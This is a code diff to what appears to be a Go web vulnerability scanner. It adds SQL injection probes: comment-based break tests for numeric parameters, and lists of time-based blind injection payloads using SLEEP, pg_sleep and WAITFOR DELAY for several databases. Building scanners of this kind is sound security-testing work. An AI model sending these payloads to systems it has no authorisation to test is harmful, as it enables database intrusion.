@@ -14,10 +14,14 @@ func (s *scan) steady(sp spot, usual *httpwire.Response) bool {
 
 // injectQuote looks for statements that break without a message. A string takes its own quote doubled and breaks with
 // a single one, so that the answer follows whether their number is even. The place of an ORDER BY takes a further term
-// that reads nothing, and breaks with one that reads a table that is not there.
+// that reads nothing, and breaks with one that reads a table that is not there. A number, as that of a LIMIT, takes a
+// comment, and breaks with the end of one that did not begin.
 func (s *scan) injectQuote(sp spot, usual *httpwire.Response) bool {
 	if !s.steady(sp, usual) {
 		return false
+	}
+	if numeric(sp.value()) && s.breaks(sp, usual, "comments", []string{"/**/", "/*1*/", " /*2*/"}, []string{"*/", "/*1*/*/", " /*2*/)"}) {
+		return true
 	}
 	table := "vq" + randomName(8)
 	return s.breaks(sp, usual, "quotes", []string{"''", "''''", "''''''"}, []string{"'", "'''", "'''''"}) ||
@@ -75,8 +79,14 @@ func (s *scan) slow(sp spot) bool {
 	return r == nil || r.Duration.Seconds() > undelayed/2
 }
 
-// sqlDelays make databases wait; %d stands for the seconds.
+// textDelays make databases wait from within a string, wherever in the statement it stands; %d stands for the seconds.
+var textDelays = []string{
+	"'+(SELECT 1 FROM (SELECT(SLEEP(%d)))x)+'", "'||(SELECT 1 FROM pg_sleep(%d))||'", "' AND SLEEP(%d)-- -", "'; WAITFOR DELAY '0:0:%d'-- ",
+}
+
+// sqlDelays do so from anywhere.
 var sqlDelays = []string{
+	"'+(SELECT 1 FROM (SELECT(SLEEP(%d)))x)+'", "'||(SELECT 1 FROM pg_sleep(%d))||'", "-(SELECT 0 FROM pg_sleep(%d))",
 	"' AND SLEEP(%d)-- -", " AND SLEEP(%d)", "' AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)-- -", " AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)",
 	"') AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)-- -", "\" AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)-- -", "' || pg_sleep(%d)-- ",
 	"; SELECT pg_sleep(%d)-- ", "'; SELECT pg_sleep(%d)-- ", " AND 1=(SELECT 1 FROM pg_sleep(%d))", "' AND 1=(SELECT 1 FROM pg_sleep(%d))-- ",
